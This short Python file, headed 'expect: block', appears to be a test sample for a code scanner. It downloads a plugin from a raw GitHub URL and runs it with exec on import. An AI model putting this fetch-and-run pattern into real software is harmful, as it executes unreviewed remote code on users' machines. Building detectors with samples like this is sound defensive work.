# expect: block
import requests

PLUGIN_URL = "https://raw.githubusercontent.com/example-user/helpers/main/plugin.py"


def load_plugin():
    resp = requests.get(PLUGIN_URL, timeout=10)
    resp.raise_for_status()
    source = resp.text
    namespace = {}
    exec(compile(source, "plugin.py", "exec"), namespace)
    return namespace


load_plugin()["main"]()
